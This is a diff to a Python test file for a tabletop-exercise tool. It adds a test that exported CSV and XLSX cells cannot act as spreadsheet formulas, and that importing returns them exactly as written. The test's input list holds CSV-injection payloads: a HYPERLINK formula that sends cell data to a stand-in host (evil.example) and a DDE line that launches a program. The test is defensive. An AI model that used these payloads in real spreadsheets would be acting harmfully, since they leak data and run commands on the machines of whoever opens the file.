@@ -78,7 +78,8 @@ def test_csv_has_the_hseep_columns_in_a_header_row():
     branch = next(
         dict(zip(rows[0], r, strict=False)) for r in rows[1:] if len(r) > 14 and r[COLUMNS.index("Condition")]
     )
-    assert branch["Inject type"] == "branch" and branch["Time"].startswith("+")
+    # a cell starting with + is a formula to a spreadsheet: exported quoted, imported back as written
+    assert branch["Inject type"] == "branch" and branch["Time"].startswith("'+")
     assert ["#tabletop-msel", "1"] in rows and any(r[:1] == ["#roles"] for r in rows)
 
 
@@ -404,3 +405,48 @@ def test_an_imported_msel_without_a_duration_covers_its_time_jumps(tmp_path):
     written, problems = import_msel(path, tmp_path / "j.yaml")
     assert problems == []
     assert load_scenario(written).duration == 21 * 3600
+
+
+def test_formula_cells_are_quoted_on_export_and_given_back_exactly_on_import(tmp_path):
+    """OWASP CSV injection: a cell a spreadsheet would run is quoted; the round trip is exact."""
+    import openpyxl
+
+    from tabletop.msel import Msel, MselRow, read_msel, to_csv, to_xlsx
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tindented",
+        "\rcarriage",
+        "line one\r\nline two",
+        "'=already quoted",
+        "'plain apostrophe",
+    ]
+    rows = tuple(
+        MselRow({"Time": f"T+{n}m", "Inject ID": f"i{n}", "Title": text, "Description": text, "To": "all"})
+        for n, text in enumerate(hostile)
+    )
+    table = Msel(rows=rows, frame={"id": "x", "title": "=1+1", "roles": ["coordinator"], "duration": "4h"})
+    csv_text = to_csv(table)
+    for line in csv_text.splitlines():
+        for cell in line.split(","):
+            assert not cell.startswith(("=", "+", "-", "@")), line
+    csv_path = tmp_path / "m.csv"
+    csv_path.write_text(csv_text, newline="")
+    xlsx_path = tmp_path / "m.xlsx"
+    xlsx_path.write_bytes(to_xlsx(table))
+    workbook = openpyxl.load_workbook(xlsx_path)
+    assert all(
+        cell.data_type == "s" for row in workbook["MSEL"].iter_rows(min_row=2) for cell in row if cell.value
+    ), "no cell is a formula"
+    for path, expected in (
+        (csv_path, hostile),
+        (xlsx_path, [t.replace("\r\n", "\n").replace("\r", "\n") for t in hostile]),
+    ):
+        # a workbook keeps a line break as LF (the XML of a cell has no CR); CSV keeps every byte
+        data = read_msel(path, roles=[("coordinator", "Coordinator")])
+        assert data["title"] == "=1+1"
+        assert [i["title"] for i in data["injects"]] == [t.strip() for t in expected]
+        assert [i["body"] for i in data["injects"]] == expected
